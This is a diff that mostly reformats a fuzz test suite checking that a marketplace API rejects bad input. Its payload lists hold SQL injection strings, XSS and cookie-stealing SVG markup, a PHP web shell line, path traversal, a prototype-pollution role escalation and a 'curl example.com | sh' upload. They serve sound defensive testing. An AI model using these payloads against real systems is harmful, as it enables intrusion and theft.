@@ -9,20 +9,7 @@ import type { Response } from 'supertest';
 import type Test from 'supertest/lib/test';
 import { createTestApp, type TestApp } from './create-test-app';
 import { image } from './factories';
-import {
-  contentHash,
-  createFixtures,
-  diffFingerprints,
-  dtoFields,
-  type FieldSpec,
-  fillPath,
-  fingerprint,
-  type Fixtures,
-  listFiles,
-  loadRoutes,
-  pathValues,
-  type Route,
-} from './security-helpers';
+import { contentHash, createFixtures, diffFingerprints, dtoFields, type FieldSpec, fillPath, fingerprint, type Fixtures, listFiles, loadRoutes, pathValues, type Route } from './security-helpers';
 
 /**
  * Property-based bad input against every route of the OpenAPI document: malformed JSON and
@@ -52,7 +39,7 @@ const SQL = [
   "admin'--",
   "%' AND SLEEP(3) AND '%'='",
   "' || (SELECT sqlite_version()) || '",
-  "1) OR (1=1",
+  '1) OR (1=1',
   "\\'; SELECT 1; --",
   '%',
   '_',
@@ -75,21 +62,24 @@ const HTML = [
   ']]><![CDATA[',
   '<?php system($_GET["c"]); ?>',
 ];
-const UNICODE = [
-  '\u202Eevil\u202C.jpg',
-  'a\u200Bb\u200C\u200Dc\uFEFF',
-  '🙂👍🏽👩‍👩‍👧‍👦🇮🇳',
-  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
-  'नमस्ते दुनिया',
-  'مرحبا بالعالم',
-  '\uD800',
-  '\u0000',
-  'line\r\nbreak\u0007\b\f',
-  '𝟙𝟚𝟛',
-  '١٢٣',
-  'ﷺ',
+const UNICODE = ['\u202Eevil\u202C.jpg', 'a\u200Bb\u200C\u200Dc\uFEFF', '🙂👍🏽👩‍👩‍👧‍👦🇮🇳', 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇', 'नमस्ते दुनिया', 'مرحبا بالعالم', '\uD800', '\u0000', 'line\r\nbreak\u0007\b\f', '𝟙𝟚𝟛', '١٢٣', 'ﷺ'];
+const OTHER = [
+  '../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  '/etc/passwd\u0000.png',
+  'null',
+  'undefined',
+  'true',
+  'NaN',
+  'Infinity',
+  '-0',
+  '1e3',
+  '0x10',
+  ' 1',
+  '[object Object]',
+  '__proto__',
+  'constructor',
 ];
-const OTHER = ['../../etc/passwd', '..%2f..%2fetc%2fpasswd', '/etc/passwd\u0000.png', 'null', 'undefined', 'true', 'NaN', 'Infinity', '-0', '1e3', '0x10', ' 1', '[object Object]', '__proto__', 'constructor'];
 const PAYLOADS = [...SQL, ...HTML, ...UNICODE, ...OTHER];
 const MEGABYTE = 'A'.repeat(1024 * 1024);
 const MISSING = Symbol('missing');
@@ -140,7 +130,12 @@ function validValue(field: FieldSpec, ids: number[]): fc.Arbitrary<unknown> | un
     const lo = min ?? -1000;
     const hi = Math.min(max ?? 1_000_000, lo + 1_000_000);
     const whole = fc.integer({ min: lo, max: hi });
-    return c.has('isNumber') ? fc.oneof(whole, fc.integer({ min: lo * 100, max: hi * 100 }).map((n) => n / 100)) : whole;
+    return c.has('isNumber')
+      ? fc.oneof(
+          whole,
+          fc.integer({ min: lo * 100, max: hi * 100 }).map((n) => n / 100),
+        )
+      : whole;
   }
   if (c.has('isEmail')) return fc.tuple(fc.constantFrom('asha', "o'reilly", 'a+b', 'x.y', 'ünï'), fc.nat()).map(([local, n]) => `${local}${n}@example.com`);
   if (c.has('isUrl')) return payload.map((p) => `https://example.com/${encode(p)}`);
@@ -148,7 +143,13 @@ function validValue(field: FieldSpec, ids: number[]): fc.Arbitrary<unknown> | un
   if (c.has('isString') || c.has('maxLength')) {
     const minLength = Number(c.get('minLength')?.[0] ?? 0);
     const maxLength = Number(c.get('maxLength')?.[0] ?? 5000);
-    const lengths = fc.oneof(fc.constant(Math.max(minLength, 12)), fc.constant(maxLength), fc.constant(maxLength + 1), fc.constant(Math.max(minLength - 1, 0)), fc.integer({ min: minLength, max: Math.min(maxLength, 2000) }));
+    const lengths = fc.oneof(
+      fc.constant(Math.max(minLength, 12)),
+      fc.constant(maxLength),
+      fc.constant(maxLength + 1),
+      fc.constant(Math.max(minLength - 1, 0)),
+      fc.integer({ min: minLength, max: Math.min(maxLength, 2000) }),
+    );
     return fc.tuple(payload, lengths).map(([p, n]) => p.repeat(Math.ceil(Math.max(n, 1) / p.length)).slice(0, n));
   }
   return undefined;
@@ -189,7 +190,12 @@ function jsonInput(fields: FieldSpec[], ids: number[]): fc.Arbitrary<JsonInput> 
   return fc.oneof(
     { weight: 10, arbitrary: record },
     { weight: 1, arbitrary: evilValue.map((body): JsonInput => ({ kind: 'value', body })) },
-    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...RAW_BODIES), fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/xml')).map(([text, type]): JsonInput => ({ kind: 'raw', text, type })) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .tuple(fc.constantFrom(...RAW_BODIES), fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/xml'))
+        .map(([text, type]): JsonInput => ({ kind: 'raw', text, type })),
+    },
   );
 }
 
@@ -214,14 +220,17 @@ function multipartInput(route: Route, fields: FieldSpec[], ids: number[], fileKi
   };
   const fileLists: fc.Arbitrary<FilePart[]>[] = Object.entries(route.fileFields).map(([name, max]) =>
     fc
-      .oneof(
-        { weight: 3, arbitrary: fc.array(fileKinds, { maxLength: Math.min(max, 2) }) },
-        { weight: 1, arbitrary: fc.array(fileKinds, { minLength: max + 1, maxLength: max + 1 }) },
-      )
+      .oneof({ weight: 3, arbitrary: fc.array(fileKinds, { maxLength: Math.min(max, 2) }) }, { weight: 1, arbitrary: fc.array(fileKinds, { minLength: max + 1, maxLength: max + 1 }) })
       .map((list) => list.map((file): FilePart => ({ name, ...file }))),
   );
-  const stray = fc.option(fileKinds.map((file): FilePart => ({ name: 'unexpected', ...file })), { freq: 8 });
-  const extra = fc.option(fc.tuple(fc.constantFrom(...UNKNOWN_KEYS), shortString).map(([name, value]): Part => ({ name, value })), { freq: 4 });
+  const stray = fc.option(
+    fileKinds.map((file): FilePart => ({ name: 'unexpected', ...file })),
+    { freq: 8 },
+  );
+  const extra = fc.option(
+    fc.tuple(fc.constantFrom(...UNKNOWN_KEYS), shortString).map(([name, value]): Part => ({ name, value })),
+    { freq: 4 },
+  );
   return fc.tuple(fc.tuple(...fields.map(text)), extra, fc.tuple(...fileLists), stray).map(([partLists, unknown, files, strayFile]) => ({
     parts: [...(partLists as Part[][]).flat(), ...(unknown ? [unknown] : [])],
     files: [...(files as FilePart[][]).flat(), ...(strayFile ? [strayFile] : [])],
@@ -241,13 +250,47 @@ function queryInput(fields: FieldSpec[], ids: number[]): fc.Arbitrary<string> {
       { weight: 1, arbitrary: fc.constant(name) },
     );
   return fc
-    .tuple(...fields.map((f) => fc.option(pair(f.name, f), { freq: 4 })), fc.option(fc.constantFrom(...UNKNOWN_KEYS).chain((name) => pair(name)), { freq: 6 }))
+    .tuple(
+      ...fields.map((f) => fc.option(pair(f.name, f), { freq: 4 })),
+      fc.option(
+        fc.constantFrom(...UNKNOWN_KEYS).chain((name) => pair(name)),
+        { freq: 6 },
+      ),
+    )
     .map((pairs) => pairs.filter((p): p is string => !!p).join('&'));
 }
 
 const BAD_IDS = [
-  '0', '-1', '1.5', '1e3', '0x10', '%201', '1%20', '%2B1', '01', '2147483648', '99999999999999999999', '2147483647', 'NaN', 'Infinity', 'null', 'undefined', 'true',
-  '%5B%5D', '%7B%7D', '%00', '%zz', '%2e%2e%2f', '..%252f', "1'%20OR%20'1'%3D'1", '1%3BDROP%20TABLE%20ads', '%3Cscript%3E', '%D9%A1', '%F0%9D%9F%99', '1,2', '1;2',
+  '0',
+  '-1',
+  '1.5',
+  '1e3',
+  '0x10',
+  '%201',
+  '1%20',
+  '%2B1',
+  '01',
+  '2147483648',
+  '99999999999999999999',
+  '2147483647',
+  'NaN',
+  'Infinity',
+  'null',
+  'undefined',
+  'true',
+  '%5B%5D',
+  '%7B%7D',
+  '%00',
+  '%zz',
+  '%2e%2e%2f',
+  '..%252f',
+  "1'%20OR%20'1'%3D'1",
+  '1%3BDROP%20TABLE%20ads',
+  '%3Cscript%3E',
+  '%D9%A1',
+  '%F0%9D%9F%99',
+  '1,2',
+  '1;2',
 ];
 /** Path values, already %-encoded: raw bad ids, and any bad string encoded. */
 const badPathValue = fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...BAD_IDS) }, { weight: 1, arbitrary: shortString.filter((s) => s.trim() !== '' && !/^[1-9]\d{0,9}$/.test(s)).map(encode) });
@@ -324,8 +367,7 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
   });
   afterAll(() => t.close());
 
-  const tokensFor = (route: Route): (string | undefined)[] =>
-    route.kind === 'admin' ? [t.adminToken] : route.kind === 'user' ? [f.sellerA.token, t.adminToken] : [undefined, t.adminToken];
+  const tokensFor = (route: Route): (string | undefined)[] => (route.kind === 'admin' ? [t.adminToken] : route.kind === 'user' ? [f.sellerA.token, t.adminToken] : [undefined, t.adminToken]);
 
   /** Sends one input, checks the answer and that a refused request changed nothing; throws (for fast-check) on a problem. */
   async function probe(route: Route, send: (req: Test) => Test | Promise<Test>, url: string, token: string | undefined, what: () => string): Promise<boolean> {
@@ -395,43 +437,59 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
   it('JSON bodies', async () => {
     const selected = routes.filter((r) => r.body === 'json');
     expect(selected.length).toBeGreaterThanOrEqual(25);
-    const failures = await fuzzRoutes(selected, RUNS.body, (route) => jsonInput(dtoFields(route.bodyDto), ids), (route, input) => ({
-      url: url(route),
-      what: () => (input.kind === 'raw' ? `raw ${input.type} ${JSON.stringify(input.text.slice(0, 200))}` : `body ${JSON.stringify(input.body)?.slice(0, 600)}`),
-      send: (req) => {
-        if (input.kind === 'raw') return req.set('Content-Type', input.type).send(input.text);
-        let text = JSON.stringify(input.body) ?? 'null';
-        if (input.kind === 'object' && input.proto) text = text.replace(/^\{/, '{"__proto__":{"role":"ADMIN"},');
-        return req.set('Content-Type', 'application/json').send(text);
-      },
-    }));
+    const failures = await fuzzRoutes(
+      selected,
+      RUNS.body,
+      (route) => jsonInput(dtoFields(route.bodyDto), ids),
+      (route, input) => ({
+        url: url(route),
+        what: () => (input.kind === 'raw' ? `raw ${input.type} ${JSON.stringify(input.text.slice(0, 200))}` : `body ${JSON.stringify(input.body)?.slice(0, 600)}`),
+        send: (req) => {
+          if (input.kind === 'raw') return req.set('Content-Type', input.type).send(input.text);
+          let text = JSON.stringify(input.body) ?? 'null';
+          if (input.kind === 'object' && input.proto) text = text.replace(/^\{/, '{"__proto__":{"role":"ADMIN"},');
+          return req.set('Content-Type', 'application/json').send(text);
+        },
+      }),
+    );
     expect(failures).toEqual([]);
   });
 
   it('multipart bodies and files', async () => {
     const selected = routes.filter((r) => r.body === 'multipart');
     expect(selected.length).toBeGreaterThanOrEqual(10);
-    const failures = await fuzzRoutes(selected, RUNS.body, (route) => multipartInput(route, dtoFields(route.bodyDto), ids, fileKinds), (route, input) => ({
-      url: url(route),
-      what: () => `fields ${JSON.stringify(input.parts.map((p) => [p.name, p.value.slice(0, 80)]))} files ${JSON.stringify(input.files.map((file) => [file.name, file.filename, file.bytes.length]))}`,
-      send: (req) => {
-        for (const part of input.parts) req.field(part.name, part.value);
-        for (const file of input.files) req.attach(file.name, file.bytes, { filename: file.filename, contentType: file.type ?? 'application/octet-stream' });
-        if (!input.parts.length && !input.files.length) req.field('nothing', '');
-        return req;
-      },
-    }));
+    const failures = await fuzzRoutes(
+      selected,
+      RUNS.body,
+      (route) => multipartInput(route, dtoFields(route.bodyDto), ids, fileKinds),
+      (route, input) => ({
+        url: url(route),
+        what: () =>
+          `fields ${JSON.stringify(input.parts.map((p) => [p.name, p.value.slice(0, 80)]))} files ${JSON.stringify(input.files.map((file) => [file.name, file.filename, file.bytes.length]))}`,
+        send: (req) => {
+          for (const part of input.parts) req.field(part.name, part.value);
+          for (const file of input.files) req.attach(file.name, file.bytes, { filename: file.filename, contentType: file.type ?? 'application/octet-stream' });
+          if (!input.parts.length && !input.files.length) req.field('nothing', '');
+          return req;
+        },
+      }),
+    );
     expect(failures).toEqual([]);
   });
 
   it('query strings', async () => {
     const selected = routes.filter((r) => r.queryDto);
     expect(selected.length).toBeGreaterThanOrEqual(15);
-    const failures = await fuzzRoutes(selected, RUNS.query, (route) => queryInput(dtoFields(route.queryDto), ids), (route, query) => ({
-      url: url(route, query),
-      what: () => '',
-      send: (req) => req,
-    }));
+    const failures = await fuzzRoutes(
+      selected,
+      RUNS.query,
+      (route) => queryInput(dtoFields(route.queryDto), ids),
+      (route, query) => ({
+        url: url(route, query),
+        what: () => '',
+        send: (req) => req,
+      }),
+    );
     expect(failures).toEqual([]);
   });
 
@@ -454,7 +512,13 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
     let files: Record<string, { bytes: Buffer; filename: string; type: string }>;
     /** The four upload forms, each with text fields that pass validation. */
     const forms = () => [
-      { name: 'ad (seller)', path: '/api/seller/post/create', field: 'images', token: f.sellerA.token, fields: { title: 'A perfectly normal title', description: 'A perfectly normal description of thirty or more characters.', categoryId: '1', locationId: '1', phone: '9876543210', age: '30' } },
+      {
+        name: 'ad (seller)',
+        path: '/api/seller/post/create',
+        field: 'images',
+        token: f.sellerA.token,
+        fields: { title: 'A perfectly normal title', description: 'A perfectly normal description of thirty or more characters.', categoryId: '1', locationId: '1', phone: '9876543210', age: '30' },
+      },
       { name: 'category', path: '/api/admin/categories/create-category', field: 'image', token: t.adminToken, fields: { title: `Upload test ${Date.now()}${Math.random()}` } },
       { name: 'location', path: '/api/admin/locations/create', field: 'stateImage', token: t.adminToken, fields: { state: 'Upload State', district: `District ${Date.now()}${Math.random()}` } },
       { name: 'blog post', path: '/api/admin/blogs', field: 'photo', token: t.adminToken, fields: { title: 'Upload test', description: '<p>Upload test</p>' } },
@@ -479,7 +543,11 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
         'a script renamed .jpg': { bytes: Buffer.from(`#!/bin/sh\ncurl example.com | sh\n${PAYLOAD}`), filename: 'photo.jpg', type: 'image/jpeg' },
         'an image over 5 MB': { bytes: await noisePng(1400, 1400), filename: 'big.png', type: 'image/png' },
         'a decompression bomb (a small PNG declaring 30000×30000 pixels)': { bytes: pngDeclaring(30_000, 30_000), filename: 'bomb.png', type: 'image/png' },
-        'an SVG with a script, renamed .png': { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'), filename: 'logo.png', type: 'image/png' },
+        'an SVG with a script, renamed .png': {
+          bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'),
+          filename: 'logo.png',
+          type: 'image/png',
+        },
         'a GIF (not an accepted format)': { bytes: Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0]), Buffer.from(PAYLOAD)]), filename: 'anim.jpg', type: 'image/jpeg' },
         'JPEG magic bytes followed by HTML': { bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(PAYLOAD)]), filename: 'fake.jpg', type: 'image/jpeg' },
         'a polyglot (a valid JPEG with PHP and HTML appended)': { bytes: Buffer.concat([jpeg, Buffer.from(PAYLOAD)]), filename: 'poly.php.jpg', type: 'image/jpeg' },
@@ -537,12 +605,33 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
   it('rich-text fields store no markup that runs, whatever HTML is sent', async () => {
     // Text may say "javascript:" (it is escaped when shown); what matters is the tags that survive.
     const dangerousTags = (stored: string) =>
-      (stored.match(/<[^>]*>/g) ?? []).filter((tag) => /^<\/?\s*(script|iframe|svg|img|object|embed|style|math|link|meta|base|form|input)/i.test(tag) || /\son\w+\s*=|javascript:|vbscript:|data:|style\s*=/i.test(tag));
+      (stored.match(/<[^>]*>/g) ?? []).filter(
+        (tag) => /^<\/?\s*(script|iframe|svg|img|object|embed|style|math|link|meta|base|form|input)/i.test(tag) || /\son\w+\s*=|javascript:|vbscript:|data:|style\s*=/i.test(tag),
+      );
     const html = fc
-      .array(fc.oneof(fc.constantFrom(...HTML, '<p onclick="x()">hi</p>', '<a href="javascript:alert(1)">x</a>', '<a href="data:text/html,<script>1</script>">x</a>', '<IMG SRC=JaVaScRiPt:alert(1)>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<p style="background:url(javascript:alert(1))">x</p>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'), shortString), { minLength: 1, maxLength: 6 })
+      .array(
+        fc.oneof(
+          fc.constantFrom(
+            ...HTML,
+            '<p onclick="x()">hi</p>',
+            '<a href="javascript:alert(1)">x</a>',
+            '<a href="data:text/html,<script>1</script>">x</a>',
+            '<IMG SRC=JaVaScRiPt:alert(1)>',
+            '<scr<script>ipt>alert(1)</scr</script>ipt>',
+            '<p style="background:url(javascript:alert(1))">x</p>',
+            '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+          ),
+          shortString,
+        ),
+        { minLength: 1, maxLength: 6 },
+      )
       .map((parts) => parts.join(' '));
     const targets: [string, (value: string) => Promise<Response>, (body: Record<string, unknown>) => unknown][] = [
-      ['SEO description', (v) => t.http.put(`/api/admin/dashboard/update/${f.descriptionId}`).set('Authorization', `Bearer ${t.adminToken}`).send({ headingH1: 'Heading', headingH2: 'Heading', description: v }), (b) => b.description],
+      [
+        'SEO description',
+        (v) => t.http.put(`/api/admin/dashboard/update/${f.descriptionId}`).set('Authorization', `Bearer ${t.adminToken}`).send({ headingH1: 'Heading', headingH2: 'Heading', description: v }),
+        (b) => b.description,
+      ],
       ['blog post', (v) => t.http.post('/api/admin/blogs').set('Authorization', `Bearer ${t.adminToken}`).field('title', 'Rich text test').field('description', v), (b) => b.description],
       ['location description', (v) => t.http.put('/api/admin/locations/update/1').set('Authorization', `Bearer ${t.adminToken}`).field('locationDescription', v), (b) => b.locationDescription],
     ];
